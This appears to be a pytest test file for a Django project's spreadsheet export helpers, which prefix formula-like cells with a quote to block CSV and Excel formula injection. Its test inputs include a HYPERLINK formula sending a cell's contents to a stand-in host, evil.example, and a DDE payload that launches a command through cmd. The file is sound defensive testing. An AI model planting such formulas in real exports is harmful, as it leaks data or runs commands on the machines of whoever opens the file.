import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils.functional import lazy
from openpyxl import load_workbook

from learningcity.core.cells import csv_bytes, safe_cell, unquote_cell, xlsx_bytes


@pytest.mark.parametrize(
    "text",
    [
        '=1+HYPERLINK("http://evil.example/?d="&B2,"Open map")',
        "-2+3+cmd|' /C calc'!A0",
        "+1+1",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "\tplain after a tab",
        "   =1+1",
        "\n\n@SUM(1)",
        "=1",
        "-3+4",
    ],
)
def test_formula_like_text_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, Decimal("-1.25"), dt.date(2025, 7, 1), True])
def test_numbers_and_dates_stay_values(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["-3", "-12.5", "-1e-05", "-", "Bản Mé Ban", "a=b", "", "3-4"])
def test_plain_texts_and_numbers_as_text_are_left_alone(text):
    assert safe_cell(text) == text


def test_none_is_empty_and_lazy_text_is_checked_too():
    assert safe_cell(None) == ""
    assert safe_cell(lazy(lambda: "=2+2", str)()) == "'=2+2"


def test_csv_has_a_bom_and_quoted_cells():
    body = csv_bytes([["=1+1", -3, None, "Chiềng Cơi"]])
    assert body.startswith("\ufeff".encode())
    assert next(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == ["'=1+1", "-3", "", "Chiềng Cơi"]


def test_xlsx_never_holds_a_formula_and_keeps_numbers():
    body = xlsx_bytes([["=1+1", "-2+3+cmd|' /C calc'!A0", -3, 2.5, "text", "-3"]], sheet="a/b:c")
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet.title == "a b c"
    cells = list(sheet[1])
    assert [c.data_type for c in cells] == ["s", "s", "n", "n", "s", "s"]
    assert [c.value for c in cells] == ["=1+1", "-2+3+cmd|' /C calc'!A0", -3, 2.5, "text", "-3"]
    assert [bool(c.quotePrefix) for c in cells] == [True, True, False, False, False, False]


@pytest.mark.parametrize("text", ["=1+1", "  @SUM(1)", "\t-2+3", "'=1", "-3", "plain", "'quoted"])
def test_unquote_gives_back_what_safe_cell_quoted(text):
    assert unquote_cell(safe_cell(text)) == text
